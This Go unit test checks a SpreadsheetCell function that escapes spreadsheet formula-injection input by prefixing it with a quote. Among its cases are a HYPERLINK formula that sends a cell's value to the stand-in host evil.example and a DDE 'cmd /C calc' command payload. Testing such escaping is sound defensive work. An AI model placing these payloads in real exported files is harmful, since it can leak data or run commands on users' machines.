package text

import "testing"

func TestSpreadsheetCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, `'=HYPERLINK("http://evil.example/?x="&A1,"open")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-5", "-5"},
		{"+12.50", "+12.50"},
		{"1234.56", "1234.56"},
		{"—", "—"},
		{"差旅 =1", "差旅 =1"},
		{"", ""},
		{"'already", "'already"},
	}
	for _, tt := range tests {
		if got := SpreadsheetCell(tt.in); got != tt.want {
			t.Errorf("SpreadsheetCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
